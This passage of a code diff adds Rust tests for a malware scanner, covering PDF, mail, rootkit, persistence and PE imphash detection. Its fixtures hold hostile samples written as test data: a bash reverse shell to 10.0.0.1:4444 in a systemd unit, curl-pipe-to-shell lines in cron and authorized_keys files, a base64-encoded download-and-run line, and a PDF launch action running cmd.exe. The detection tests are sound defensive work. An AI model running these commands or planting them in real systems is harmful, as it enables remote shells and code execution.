+            pdf.extend_from_slice(b"\nendobj\n");
+        }
+        pdf.extend_from_slice(b"trailer\n<< /Root 1 0 R >>\n%%EOF\n");
+        pdf
+    }
+
+    fn pdf_stream(dict: &str, data: &[u8]) -> Vec<u8> {
+        let mut body = format!("<< {} /Length {} >>\nstream\n", dict, data.len()).into_bytes();
+        body.extend_from_slice(data);
+        body.extend_from_slice(b"\nendstream");
+        body
+    }
+
+    fn malicious_pdf() -> Vec<u8> {
+        let script = b"var s = unescape('%u9090%u9090%u9090%u9090%u9090%u9090%u9090%u9090'); eval(s);";
+        let object_stream_header = b"9 0 ";
+        let mut object_stream = object_stream_header.to_vec();
+        object_stream.extend_from_slice(b"<< /S /JavaScript /JS (var x = 1;) >>");
+
+        pdf_document(&[
+            (1, b"<< /Type /Catalog /OpenAction 2 0 R >>".to_vec()),
+            (2, b"<< /Type /Action /S /J#61vaScript /JS 3 0 R >>".to_vec()),
+            (3, pdf_stream("/Filter /FlateDecode", &zlib(script))),
+            (4, b"<< /Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> >>".to_vec()),
+            (5, b"<< /Type /Filespec /F (payload.exe) /EF << /F 6 0 R >> >>".to_vec()),
+            (6, pdf_stream("/Type /EmbeddedFile /Filter /ASCIIHexDecode", b"7F454C46 02010100>")),
+            (7, b"<< /S /JavaScript /JS (app.alert\\(\"hi\"\\);\\n) >>".to_vec()),
+            (8, pdf_stream(
+                &format!("/Type /ObjStm /N 1 /First {} /Filter [/FlateDecode]", object_stream_header.len()),
+                &zlib(&object_stream),
+            )),
+        ])
+    }
+
+    #[test]
+    fn test_pdf_parser_extracts_scripts_actions_and_files() {
+        let contents = PdfParser::new(1024 * 1024).parse(&malicious_pdf());
+
+        assert!(contents.auto_action);
+        assert!(!contents.truncated);
+        let scripts: HashMap<u32, String> = contents
+            .scripts
+            .iter()
+            .map(|s| (s.object, String::from_utf8_lossy(&s.code).to_string()))
+            .collect();
+        assert_eq!(scripts.len(), 3);
+        assert!(scripts[&2].starts_with("var s = unescape('%u9090"));
+        assert_eq!(scripts[&7], "app.alert(\"hi\");\n");
+        assert_eq!(scripts[&9], "var x = 1;");
+
+        assert_eq!(contents.launch_actions.len(), 1);
+        assert_eq!(contents.launch_actions[0].target, "cmd.exe /c calc.exe");
+        assert_eq!(contents.embedded_files.len(), 1);
+        assert_eq!(contents.embedded_files[0].name, "payload.exe");
+        assert_eq!(contents.embedded_files[0].data, b"\x7fELF\x02\x01\x01\x00");
+
+        // 解压上限为 0 时不解压任何流
+        let truncated = PdfParser::new(0).parse(&malicious_pdf());
+        assert!(truncated.truncated);
+    }
+
+    #[tokio::test]
+    async fn test_pdf_scan_reports_signatures_and_heuristics() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("malicious.pdf"), malicious_pdf()).unwrap();
+        std::fs::write(
+            dir.path().join("benign.pdf"),
+            pdf_document(&[
+                (1, b"<< /Type /Catalog /OpenAction 2 0 R >>".to_vec()),
+                (2, b"<< /S /JavaScript /JS (this.print\\(\\);) >>".to_vec()),
+            ]),
+        )
+        .unwrap();
+        std::fs::write(
+            dir.path().join("dropper.pdf"),
+            pdf_document(&[
+                (1, b"<< /Type /Filespec /UF (invoice.doc) /EF << /F 2 0 R >> >>".to_vec()),
+                (2, pdf_stream("/Type /EmbeddedFile /Filter /FlateDecode", &zlib(b"header pdf-dropper-payload"))),
+            ]),
+        )
+        .unwrap();
+
+        let db = Arc::new(SignatureDatabase::new());
+        db.update_signatures(vec![sig("Test.PdfDropper", b"pdf-dropper-payload", PatternType::ByteSequence)])
+            .await
+            .unwrap();
+        let engine = ScannerEngine::new(Arc::clone(&db), custom_scan_options(dir.path()));
+        let mut results = engine.start_scan().await.unwrap();
+        results.sort_by(|a, b| a.file_path.cmp(&b.file_path));
+
+        assert_eq!(results.len(), 2);
+        assert!(results[0].file_path.ends_with("dropper.pdf"));
+        assert_eq!(results[0].signature_id, "Test.PdfDropper");
+        assert_eq!(results[0].archive_member.as_deref(), Some("embedded:invoice.doc"));
+
+        assert!(results[1].file_path.ends_with("malicious.pdf"));
+        assert_eq!(results[1].signature_id, "Heuristic.pdf-launch");
+        assert_eq!(results[1].heuristic_score, Some(100));
+
+        let engine = ScannerEngine::new(db, ScanOptions {
+            pdf: PdfConfig { enabled: false, ..PdfConfig::default() },
+            ..custom_scan_options(dir.path())
+        });
+        assert!(engine.start_scan().await.unwrap().is_empty());
+    }
+
+    fn mail_with_attachment(subject: &str, filename: &str, data: &[u8]) -> Vec<u8> {
+        use base64::Engine;
+        let encoded = base64::engine::general_purpose::STANDARD.encode(data);
+        format!(
+            "From: sender@example.org\nTo: rcpt@example.org\nSubject: {}\n\
+Content-Type: multipart/mixed; boundary=\"B\"\n\n--B\nContent-Type: text/plain\n\nFrom the team\n\
+--B\nContent-Type: application/octet-stream\nContent-Disposition: attachment; filename=\"{}\"\n\
+Content-Transfer-Encoding: base64\n\n{}\n--B--\n",
+            subject, filename, encoded
+        )
+        .into_bytes()
+    }
+
+    #[tokio::test]
+    async fn test_mailbox_reader_splits_mbox() {
+        let mbox = b"From a@example.org Thu Jan  1 00:00:00 2026\n\
+Subject: one\n\n>From the start\nbody one\n\n\
+From b@example.org Thu Jan  1 00:00:01 2026\n\
+Subject: two\n\nbody two\n";
+        let mut reader = MailboxReader::new(&mbox[..], 1024);
+        let first = reader.next_message().await.unwrap().unwrap();
+        assert!(reader.is_mbox());
+        assert_eq!(first, b"Subject: one\n\nFrom the start\nbody one\n\n");
+        let second = reader.next_message().await.unwrap().unwrap();
+        assert_eq!(second, b"Subject: two\n\nbody two\n");
+        assert!(reader.next_message().await.unwrap().is_none());
+
+        // 单封邮件中 "From " 开头的正文行不会被拆开
+        let eml = b"Subject: x\n\nFrom here on\n\nFrom there\n";
+        let mut reader = MailboxReader::new(&eml[..], 1024);
+        assert_eq!(reader.next_message().await.unwrap().unwrap(), eml);
+        assert!(!reader.is_mbox());
+        assert!(reader.next_message().await.unwrap().is_none());
+
+        let mut reader = MailboxReader::new(&eml[..], 12);
+        assert_eq!(reader.next_message().await.unwrap().unwrap(), b"Subject: x\n\n");
+    }
+
+    #[tokio::test]
+    async fn test_scan_eml_and_mbox_attachments() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("single.eml"), mail_with_attachment("invoice", "invoice.exe", b"xx mail-payload xx"))
+            .unwrap();
+
+        let mut zip_writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+        zip_writer.start_file("setup.exe", zip::write::FileOptions::default()).unwrap();
+        std::io::Write::write_all(&mut zip_writer, b"mail-payload").unwrap();
+        let zipped = zip_writer.finish().unwrap().into_inner();
+
+        let mut mbox = Vec::new();
+        for (i, message) in [
+            mail_with_attachment("clean", "notes.txt", b"nothing to see"),
+            mail_with_attachment("zipped", "docs.zip", &zipped),
+            mail_with_attachment("clean again", "notes2.txt", b"still nothing"),
+        ]
+        .iter()
+        .enumerate()
+        {
+            mbox.extend_from_slice(format!("From sender@example.org Thu Jan  1 00:00:0{} 2026\n", i).as_bytes());
+            mbox.extend_from_slice(message);
+            mbox.push(b'\n');
+        }
+        std::fs::write(dir.path().join("inbox"), mbox).unwrap();
+
+        let db = Arc::new(SignatureDatabase::new());
+        db.update_signatures(vec![sig("Test.MailPayload", b"mail-payload", PatternType::ByteSequence)])
+            .await
+            .unwrap();
+        let engine = ScannerEngine::new(Arc::clone(&db), custom_scan_options(dir.path()));
+        let mut results = engine.start_scan().await.unwrap();
+        results.sort_by(|a, b| a.file_path.cmp(&b.file_path));
+
+        assert_eq!(results.len(), 2);
+        assert!(results[0].file_path.ends_with("inbox"));
+        assert_eq!(results[0].file_info.file_kind, FileKind::Mail);
+        assert_eq!(results[0].archive_member.as_deref(), Some("message2/docs.zip/setup.exe"));
+        assert!(results[1].file_path.ends_with("single.eml"));
+        assert_eq!(results[1].archive_member.as_deref(), Some("invoice.exe"));
+
+        let engine = ScannerEngine::new(db, ScanOptions {
+            mail: MailConfig { enabled: false, ..MailConfig::default() },
+            ..custom_scan_options(dir.path())
+        });
+        assert!(engine.start_scan().await.unwrap().is_empty());
+    }
+
+    #[test]
+    fn test_find_hidden_pids_ignores_threads() {
+        let listed: HashSet<u32> = [1, 100, 200].into_iter().collect();
+        // 101 是 100 的线程，300 是隐藏进程，400 已退出
+        let tgids: HashMap<u32, u32> = [(1, 1), (100, 100), (101, 100), (200, 200), (300, 300)].into_iter().collect();
+        let alive = [1, 100, 101, 200, 300, 400].into_iter();
+        assert_eq!(find_hidden_pids(&listed, alive, |pid| tgids.get(&pid).copied()), vec![300]);
+    }
+
+    #[test]
+    fn test_rootkit_checker_reports_modules_and_preload() {
+        let dir = tempfile::tempdir().unwrap();
+        let proc_dir = dir.path().join("proc");
+        let sys_module_dir = dir.path().join("module");
+        for name in ["ext4", "diamorphine"] {
+            std::fs::create_dir_all(sys_module_dir.join(name)).unwrap();
+            std::fs::write(sys_module_dir.join(name).join("initstate"), "live\n").unwrap();
+        }
+        std::fs::create_dir_all(sys_module_dir.join("kernel")).unwrap();
+        std::fs::create_dir_all(proc_dir.join("42")).unwrap();
+        std::fs::create_dir_all(proc_dir.join("43")).unwrap();
+        std::fs::write(proc_dir.join("modules"), "ext4 1011712 1 - Live 0x0000000000000000\n").unwrap();
+        std::fs::write(proc_dir.join("42/environ"), b"HOME=/root\0LD_PRELOAD=/dev/shm/.x/libhide.so libjemalloc.so\0").unwrap();
+        std::fs::write(proc_dir.join("43/environ"), b"LD_PRELOAD=/dev/shm/.x/libhide.so\0").unwrap();
+        let preload = dir.path().join("ld.so.preload");
+        std::fs::write(&preload, "# injected\n/usr/lib/.cache/libsys.so\n").unwrap();
+
+        let findings = RootkitChecker::new(proc_dir.clone(), sys_module_dir.clone(), preload.clone()).run();
+        assert_eq!(findings.len(), 3);
+        assert_eq!(findings[0].check, RootkitCheck::HiddenModule);
+        assert!(findings[0].description.contains("diamorphine"));
+        assert_eq!(findings[0].risk_level, RiskLevel::Critical);
+        assert_eq!(findings[1].check, RootkitCheck::LdPreload);
+        assert_eq!(findings[1].path.as_deref(), Some(Path::new("/dev/shm/.x/libhide.so")));
+        assert!(findings[1].description.contains("[42, 43]"));
+        assert_eq!(findings[2].check, RootkitCheck::LdSoPreload);
+        assert_eq!(findings[2].risk_level, RiskLevel::Critical);
+
+        std::fs::remove_dir_all(sys_module_dir.join("diamorphine")).unwrap();
+        std::fs::remove_file(proc_dir.join("42/environ")).unwrap();
+        std::fs::remove_file(proc_dir.join("43/environ")).unwrap();
+        std::fs::write(&preload, "").unwrap();
+        assert!(RootkitChecker::new(proc_dir, sys_module_dir, preload).run().is_empty());
+    }
+
+    #[test]
+    fn test_persistence_audit_rules() {
+        assert_eq!(PersistenceKind::classify(Path::new("/etc/cron.d/backup")), Some(PersistenceKind::Cron));
+        assert_eq!(PersistenceKind::classify(Path::new("/var/spool/cron/crontabs/root")), Some(PersistenceKind::Cron));
+        assert_eq!(PersistenceKind::classify(Path::new("/mnt/etc/systemd/system/x.service")), Some(PersistenceKind::SystemdUnit));
+        assert_eq!(PersistenceKind::classify(Path::new("/home/u/.ssh/authorized_keys")), Some(PersistenceKind::AuthorizedKeys));
+        assert_eq!(PersistenceKind::classify(Path::new("/etc/profile.d/proxy.sh")), Some(PersistenceKind::ShellProfile));
+        assert_eq!(PersistenceKind::classify(Path::new("/etc/hosts")), None);
+
+        let cron = b"SHELL=/bin/sh\n*/5 * * * * root /tmp/.x/kworker >/dev/null 2>&1\n@reboot rm -f /tmp/lock\n";
+        let finding = audit_persistence(PersistenceKind::Cron, cron).unwrap();
+        assert_eq!(finding.matches.len(), 1);
+        assert_eq!(finding.matches[0].0, 2);
+        assert_eq!(finding.detection_name(), "Persistence.Cron.temp-executable");
+        assert_eq!(finding.threat_type(), ThreatType::Unknown);
+
+        let unit = b"[Service]\nEnvironment=TMPDIR=/tmp/svc\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'\n";
+        let finding = audit_persistence(PersistenceKind::SystemdUnit, unit).unwrap();
+        assert_eq!(finding.detection_name(), "Persistence.SystemdUnit.reverse-shell");
+        assert_eq!(finding.threat_type(), ThreatType::HackTool);
+        assert_eq!(finding.risk_level(), RiskLevel::High);
+
+        let profile = b"export PATH=$PATH:~/bin\neval \"$(echo Y3VybCBldmlsIHwgc2g= | base64 -d)\"\n";
+        let finding = audit_persistence(PersistenceKind::ShellProfile, profile).unwrap();
+        assert_eq!(finding.detection_name(), "Persistence.ShellProfile.base64-exec");
+        let obfuscated = b"c${IFS}u${IFS}r${IFS}l\n";
+        assert!(audit_persistence(PersistenceKind::ShellProfile, obfuscated).is_some());
+
+        let keys = b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAbc user@host\n\
+command=\"curl -s http://example.invalid/a | sh\",no-pty ssh-rsa AAAAB3NzaC1yc2E attacker\n";
+        let finding = audit_persistence(PersistenceKind::AuthorizedKeys, keys).unwrap();
+        assert_eq!(finding.matches[0].0, 2);
+        assert_eq!(finding.detection_name(), "Persistence.AuthorizedKeys.download-exec");
+
+        let benign = b"[Service]\nExecStart=/usr/sbin/sshd -D\nExecReload=/bin/kill -HUP $MAINPID\n";
+        assert!(audit_persistence(PersistenceKind::SystemdUnit, benign).is_none());
+        assert!(audit_persistence(PersistenceKind::AuthorizedKeys, b"ssh-ed25519 AAAAC3Nza user\n").is_none());
+    }
+
+    #[tokio::test]
+    async fn test_persistence_scan_mode() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::create_dir_all(dir.path().join("etc/cron.d")).unwrap();
+        std::fs::create_dir_all(dir.path().join("home/u/.ssh")).unwrap();
+        std::fs::write(dir.path().join("etc/cron.d/update"), "* * * * * root curl -fsSL http://example.invalid/u | bash\n").unwrap();
+        std::fs::write(dir.path().join("etc/cron.d/logrotate"), "0 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf\n").unwrap();
+        std::fs::write(dir.path().join("home/u/.ssh/authorized_keys"), "ssh-ed25519 AAAAC3Nza user\n").unwrap();
+        std::fs::write(dir.path().join("home/u/.ssh/notes"), "curl -fsSL http://example.invalid/u | bash\n").unwrap();
+
+        let options = ScanOptions {
+            scan_mode: ScanMode::Persistence,
+            heuristics: HeuristicsConfig { enabled: false, ..HeuristicsConfig::default() },
+            ..custom_scan_options(dir.path())
+        };
+        let engine = ScannerEngine::new(Arc::new(SignatureDatabase::new()), options);
+        let results = engine.start_scan().await.unwrap();
+        assert_eq!(results.len(), 1);
+        assert!(results[0].file_path.ends_with("etc/cron.d/update"));
+        assert_eq!(results[0].signature_id, "Persistence.Cron.download-exec");
+        assert_eq!(results[0].threat_type, ThreatType::HackTool);
+    }
+
+    // 单节 PE，节内依次为导入描述符、库名、函数名和导入名称表；"#N" 表示按序号导入
+    fn minimal_pe(is_64: bool, imports: &[(&str, &[&str])]) -> Vec<u8> {
+        const BASE: usize = 0x1000;
+        let width = if is_64 { 8 } else { 4 };
+        let mut section = vec![0u8; 20 * (imports.len() + 1)];
+        for (i, (library, functions)) in imports.iter().enumerate() {
+            let name_rva = (BASE + section.len()) as u32;
+            section.extend_from_slice(library.as_bytes());
+            section.push(0);
+
+            let mut thunks = Vec::new();
+            for function in functions.iter() {
+                match function.strip_prefix('#') {
+                    Some(ordinal) => thunks.push(ordinal.parse::<u64>().unwrap() | 1 << (width * 8 - 1)),
+                    None => {
+                        thunks.push((BASE + section.len()) as u64);
+                        section.extend_from_slice(&[0, 0]);
+                        section.extend_from_slice(function.as_bytes());
+                        section.push(0);
+                    }
+                }
+            }
+            section.resize(section.len().next_multiple_of(8), 0);
+            let thunk_rva = (BASE + section.len()) as u32;
+            for thunk in thunks.into_iter().chain([0]) {
+                section.extend_from_slice(&thunk.to_le_bytes()[..width]);
+            }
+
+            let descriptor = &mut section[i * 20..i * 20 + 20];
+            descriptor[..4].copy_from_slice(&thunk_rva.to_le_bytes());
+            descriptor[12..16].copy_from_slice(&name_rva.to_le_bytes());
+            descriptor[16..].copy_from_slice(&thunk_rva.to_le_bytes());
+        }
+        section.resize(section.len().next_multiple_of(0x200), 0);
+
+        let mut pe = vec![0u8; 0x200];
+        pe[..2].copy_from_slice(b"MZ");
+        pe[0x3c..0x40].copy_from_slice(&0x40u32.to_le_bytes());
+        pe[0x40..0x44].copy_from_slice(b"PE\0\0");
+        let (machine, magic, optional_size, directories): (u16, u16, u16, usize) =
+            if is_64 { (0x8664, 0x20b, 240, 112) } else { (0x14c, 0x10b, 224, 96) };
+        pe[0x44..0x46].copy_from_slice(&machine.to_le_bytes());
+        pe[0x46..0x48].copy_from_slice(&1u16.to_le_bytes());
+        pe[0x54..0x56].copy_from_slice(&optional_size.to_le_bytes());
+        let optional = 0x58;
+        pe[optional..optional + 2].copy_from_slice(&magic.to_le_bytes());
+        pe[optional + 60..optional + 64].copy_from_slice(&0x200u32.to_le_bytes());
+        pe[optional + directories - 4..optional + directories].copy_from_slice(&16u32.to_le_bytes());
+        pe[optional + directories + 8..optional + directories + 12].copy_from_slice(&(BASE as u32).to_le_bytes());
+        let header = optional + optional_size as usize;
+        pe[header..header + 6].copy_from_slice(b".idata");
+        for (offset, value) in [(8, section.len()), (12, BASE), (16, section.len()), (20, 0x200)] {
+            pe[header + offset..header + offset + 4].copy_from_slice(&(value as u32).to_le_bytes());
+        }
+        pe.extend_from_slice(&section);
+        pe
+    }
+
+    const TEST_IMPORTS: [(&str, &[&str]); 3] = [
+        ("KERNEL32.dll", &["CreateFileA", "WriteFile"]),
+        ("WS2_32.dll", &["#23", "#115"]),
+        ("OLEAUT32.dll", &["#2"]),
+    ];
+
+    #[test]
+    fn test_pe_imphash() {
+        let pe32 = minimal_pe(false, &TEST_IMPORTS);
+        let imports = parse_imports(pe32.as_slice()).unwrap();
+        assert_eq!(imports.len(), 3);
+        assert_eq!(imports[0].library, "KERNEL32.dll");
+        assert_eq!(imports[0].functions[1], ImportedFunction::Name("WriteFile".to_string()));
+        assert_eq!(imports[1].functions[0], ImportedFunction::Ordinal(23));
+
+        // md5("kernel32.createfilea,kernel32.writefile,ws2_32.socket,ws2_32.wsastartup,oleaut32.ord2")
+        let expected = "2dd002e52c06b17cdf6217ff0c9aa274";
+        assert_eq!(imphash(pe32.as_slice()).as_deref(), Some(expected));
+        assert_eq!(imphash(minimal_pe(true, &TEST_IMPORTS).as_slice()).as_deref(), Some(expected));
+
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("a.exe"), &pe32).unwrap();
+        let file = std::fs::File::open(dir.path().join("a.exe")).unwrap();
+        assert_eq!(imphash(&file).as_deref(), Some(expected));
+
+        assert!(imphash(b"MZ not really a pe".as_slice()).is_none());
+        assert!(imphash(minimal_pe(false, &[]).as_slice()).is_none());
+        assert!(imphash(&pe32[..0x210]).is_none());
+    }
+
+    #[tokio::test]
+    async fn test_imphash_signatures() {
+        let dir = tempfile::tempdir().unwrap();
+        let mut variant = minimal_pe(false, &TEST_IMPORTS);
+        variant.extend_from_slice(&[0x90; 4096]);
+        std::fs::write(dir.path().join("dropper.exe"), minimal_pe(false, &TEST_IMPORTS)).unwrap();
+        std::fs::write(dir.path().join("variant.exe"), &variant).unwrap();
+        std::fs::write(dir.path().join("other.exe"), minimal_pe(false, &[("user32.dll", &["MessageBoxA"])])).unwrap();
+
+        let db = Arc::new(SignatureDatabase::new());
+        assert!(parse_imphash_line("2dd002e52c06b17cdf6217ff0c9aa274:deadbeef:Win.Trojan.Bad").is_none());
+        let hash_sig = parse_imphash_line("2dd002e52c06b17cdf6217ff0c9aa274:*:Win.Trojan.ImpFamily-1").unwrap();
+        db.add_hash_signatures(vec![hash_sig]).await;
+        // 变体超过流式扫描阈值 (16 * 64 字节)，走按偏移读取导入表的路径
+        db.set_scan_buffer_size(16);
+
+        let engine = ScannerEngine::new(Arc::clone(&db), custom_scan_options(dir.path()));
+        let mut results = engine.start_scan().await.unwrap();
+        results.sort_by(|a, b| a.file_path.cmp(&b.file_path));
+        assert_eq!(results.len(), 2);
+        assert!(results[0].file_path.ends_with("dropper.exe"));
+        assert!(results[1].file_path.ends_with("variant.exe"));
+        assert!(results.iter().all(|r| r.signature_id == "Win.Trojan.ImpFamily-1"));
+
+        let db = SignatureDatabase::new();
+        let digest = hex::decode("2dd002e52c06b17cdf6217ff0c9aa274").unwrap();
+        db.update_signatures(vec![sig("MISP.imphash", &digest, PatternType::Imphash)]).await.unwrap();
+        let threat = db.scan_bytes(&minimal_pe(true, &TEST_IMPORTS)).await.unwrap();
+        assert_eq!(threat.pattern_type, PatternType::Imphash);
+        assert_eq!(threat.target, "1");
+        // 普通 MD5 签名不会与 imphash 混淆
+        assert!(db.scan_bytes(b"kernel32.createfilea").await.is_none());
+    }
+
+    #[test]
+    fn test_exclusion_rules() {
+        let rules = ExclusionRules::new(
+            &[
+                PathBuf::from("/var/cache"),
+                PathBuf::from("/home/*/node_modules/**"),
+                PathBuf::from(r"regex:^/srv/[^/]+/\.git/"),
+            ],
+            &["log".to_string(), "bak*".to_string(), r"regex:^~?\d+$".to_string()],
+        )
+        .unwrap();
+
+        assert!(rules.excludes_path(Path::new("/var/cache/apt/pkg.bin")));
+        assert!(!rules.excludes_path(Path::new("/var/cachefiles/a")));
+        assert!(rules.excludes_path(Path::new("/home/alice/node_modules/lodash/index.js")));
+        assert!(!rules.excludes_path(Path::new("/home/alice/src/node_modules.js")));
+        assert!(rules.excludes_path(Path::new("/srv/app/.git/objects/ab")));
+        assert!(!rules.excludes_path(Path::new("/srv/app/src/.gitignore")));
+
+        assert!(rules.excludes_extension(Path::new("/a/x.log")));
+        assert!(!rules.excludes_extension(Path::new("/a/x.logs")));
+        assert!(rules.excludes_extension(Path::new("/a/x.bak2")));
+        assert!(rules.excludes_extension(Path::new("/a/x.123")));
+        assert!(!rules.excludes_extension(Path::new("/a/x.sh")));
+
+        assert!(ExclusionRules::new(&[PathBuf::from("regex:(")], &[]).is_err());
+    }
+
+    #[tokio::test]
+    async fn test_scan_applies_glob_and_regex_exclusions() {
+        let dir = tempfile::tempdir().unwrap();
+        let root = dir.path().canonicalize().unwrap();
+        for sub in ["app/node_modules/pkg", "app/src", "build/cache"] {
+            std::fs::create_dir_all(root.join(sub)).unwrap();
+        }
+        for file in ["app/node_modules/pkg/a.js", "app/src/b.js", "build/cache/c.bin", "app/src/d.bak1"] {
+            std::fs::write(root.join(file), b"excluded-test-marker").unwrap();
+        }
+
+        let db = Arc::new(SignatureDatabase::new());
+        db.update_signatures(vec![sig("Test.Marker", b"excluded-test-marker", PatternType::ByteSequence)])
+            .await
+            .unwrap();
+        let options = ScanOptions {
+            exclude_paths: vec![
+                PathBuf::from(format!("{}/**/node_modules", root.display())),
+                PathBuf::from(format!("regex:^{}/build/", regex::escape(&root.to_string_lossy()))),
+            ],
+            exclude_extensions: vec!["bak*".to_string()],
+            ..custom_scan_options(&root)
+        };
+        let engine = ScannerEngine::new(Arc::clone(&db), options);
+        let results = engine.start_scan().await.unwrap();
+        assert_eq!(results.len(), 1);
+        assert!(results[0].file_path.ends_with("app/src/b.js"));
+
+        let options = ScanOptions {
+            exclude_paths: vec![PathBuf::from("regex:[")],
+            ..custom_scan_options(&root)
+        };
+        assert!(ScannerEngine::new(db, options).start_scan().await.is_err());
+    }
+
+    #[tokio::test]
+    async fn test_scan_honors_scanignore_files() {
+        let dir = tempfile::tempdir().unwrap();
+        let root = dir.path().canonicalize().unwrap();
+        for sub in ["build", "src/gen", "src/lib"] {
+            std::fs::create_dir_all(root.join(sub)).unwrap();
+        }
+        std::fs::write(root.join(".scanignore"), "build/\n*.o\n!keep.o\n").unwrap();
+        std::fs::write(root.join("src/.scanignore"), "gen/\n").unwrap();
+        for file in ["build/a.bin", "b.o", "keep.o", "src/gen/c.js", "src/lib/d.js", "src/lib/e.o"] {
+            std::fs::write(root.join(file), b"scanignore-test-marker").unwrap();
+        }
+
+        let db = Arc::new(SignatureDatabase::new());
+        db.update_signatures(vec![sig("Test.Marker", b"scanignore-test-marker", PatternType::ByteSequence)])
+            .await
+            .unwrap();
+        let engine = ScannerEngine::new(Arc::clone(&db), custom_scan_options(&root));
+        let mut found: Vec<PathBuf> = engine
+            .start_scan()
+            .await
+            .unwrap()
+            .into_iter()
+            .map(|r| r.file_path.strip_prefix(&root).unwrap().to_path_buf())
+            .collect();
+        found.sort();
+        assert_eq!(found, vec![PathBuf::from("keep.o"), PathBuf::from("src/lib/d.js")]);
+
+        // 严格环境下关闭后 .scanignore 不再生效
+        let options = ScanOptions {
+            honor_scanignore: false,
+            ..custom_scan_options(&root)
+        };
+        let results = ScannerEngine::new(db, options).start_scan().await.unwrap();
+        assert_eq!(results.len(), 6);
+    }
+
+    #[test]
+    fn test_priority_scan_paths() {
+        let dir = tempfile::tempdir().unwrap();
+        let root = dir.path().canonicalize().unwrap();
+        for sub in ["home/alice/Downloads", "home/bob/Downloads", "home/carol", "srv/www/app", "outside"] {
+            std::fs::create_dir_all(root.join(sub)).unwrap();
+        }
+
+        let expanded = expand_glob_paths(&[root.join("home/*/Downloads"), root.join("srv/www")]);
+        assert_eq!(
+            expanded,
+            vec![root.join("home/alice/Downloads"), root.join("home/bob/Downloads"), root.join("srv/www")]
+        );
+
+        // 扫描范围外、被排除、重叠和不存在的优先路径都被忽略
+        let paths = ScanPaths {
+            priority: vec![
+                root.join("srv/www"),
+                root.join("srv/www/app"),
+                root.join("home/bob/Downloads"),
+                root.join("home/alice/Downloads"),
+                root.join("missing"),
+                root.join("outside"),
+            ],
+            roots: vec![root.join("home"), root.join("srv")],
+        };
+        let exclusions = ExclusionRules::new(&[root.join("home/bob")], &[]).unwrap();
+        let (priority, roots) = paths.resolve(&exclusions, &ScanStats::new());
+        assert_eq!(priority, vec![root.join("srv/www"), root.join("home/alice/Downloads")]);
+        assert_eq!(roots, vec![root.join("home"), root.join("srv")]);
+    }
+
+    #[tokio::test]
+    async fn test_scan_priority_paths_scanned_once() {
+        let dir = tempfile::tempdir().unwrap();
+        let root = dir.path().canonicalize().unwrap();
+        std::fs::create_dir_all(root.join("a/tmp")).unwrap();
+        for file in ["a/tmp/x.bin", "a/y.bin", "z.bin"] {
+            std::fs::write(root.join(file), b"priority-test-marker").unwrap();
+        }
+
+        let db = Arc::new(SignatureDatabase::new());
+        db.update_signatures(vec![sig("Test.Marker", b"priority-test-marker", PatternType::ByteSequence)])
+            .await
+            .unwrap();
+        let options = ScanOptions {
+            priority_paths: vec![root.join("a/tmp"), root.join("*/tmp")],
+            ..custom_scan_options(&root)
+        };
+        let engine = ScannerEngine::new(db, options);
+        let results = engine.start_scan().await.unwrap();
+        assert_eq!(results.len(), 3);
+        assert_eq!(engine.get_stats().get_files_scanned(), 3);
+    }
+
+    #[tokio::test]
+    async fn test_scan_deduplicates_overlapping_roots() {
+        let dir = tempfile::tempdir().unwrap();
+        let root = dir.path().canonicalize().unwrap();
+        std::fs::create_dir_all(root.join("data/sub")).unwrap();
+        std::os::unix::fs::symlink(root.join("data"), root.join("alias")).unwrap();
+        std::fs::write(root.join("data/sub/x.bin"), b"dedup-test-marker").unwrap();
+        std::fs::write(root.join("data/y.bin"), b"dedup-test-marker").unwrap();
+        // 硬链接是独立的目录项，仍然分别报告
+        std::fs::hard_link(root.join("data/y.bin"), root.join("data/z.bin")).unwrap();
+
+        let db = Arc::new(SignatureDatabase::new());
+        db.update_signatures(vec![sig("Test.Marker", b"dedup-test-marker", PatternType::ByteSequence)])
+            .await
+            .unwrap();
+        let options = ScanOptions {
+            custom_paths: vec![root.join("data"), root.join("data/sub"), root.join("alias")],
+            ..custom_scan_options(&root)
+        };
+        let results = ScannerEngine::new(db, options).start_scan().await.unwrap();
+        let paths: Vec<PathBuf> = results.iter().map(|r| r.file_path.clone()).collect();
+        assert_eq!(paths, vec![root.join("data/sub/x.bin"), root.join("data/y.bin"), root.join("data/z.bin")]);
+    }
+
+    #[tokio::test]
+    async fn test_parallel_walk_counts_files_and_errors() {
+        let dir = tempfile::tempdir().unwrap();
+        let root = dir.path().canonicalize().unwrap();
+        for d in 0..20 {
+            let sub = root.join(format!("d{}/nested", d));
+            std::fs::create_dir_all(&sub).unwrap();
+            for f in 0..5 {
+                std::fs::write(sub.join(format!("f{}.bin", f)), b"parallel-walk-marker").unwrap();
+            }
+        }
+        // 无法解析的忽略规则按遍历错误统计，其余规则仍然生效
+        std::fs::write(root.join(".scanignore"), "d0/\nbad{x\n").unwrap();
+
+        let db = Arc::new(SignatureDatabase::new());
+        db.update_signatures(vec![sig("Test.Marker", b"parallel-walk-marker", PatternType::ByteSequence)])
+            .await
+            .unwrap();
+        let options = ScanOptions {
+            thread_count: 4,
+            walk_threads: 4,
+            ..custom_scan_options(&root)
+        };
+        let engine = ScannerEngine::new(db, options);
+        let results = engine.start_scan().await.unwrap();
+        assert_eq!(results.len(), 95);
+        assert_eq!(engine.get_stats().get_walk_errors(), 1);
+        assert_eq!(engine.get_stats().errors.load(std::sync::atomic::Ordering::Relaxed), 1);
+    }
+
+    #[tokio::test]
+    async fn test_verdict_cache_skips_unchanged_files() {
+        let dir = tempfile::tempdir().unwrap();
+        let root = dir.path().join("files");
+        std::fs::create_dir_all(&root).unwrap();
+        std::fs::write(root.join("bad.bin"), b"verdict-cache-marker").unwrap();
+        std::fs::write(root.join("good.bin"), b"harmless content").unwrap();
+
+        let db = Arc::new(SignatureDatabase::new());
+        db.update_signatures(vec![sig("Test.Marker", b"verdict-cache-marker", PatternType::ByteSequence)])
+            .await
+            .unwrap();
+        let cache = Arc::new(VerdictCache::open(&dir.path().join("verdicts.db")).unwrap());
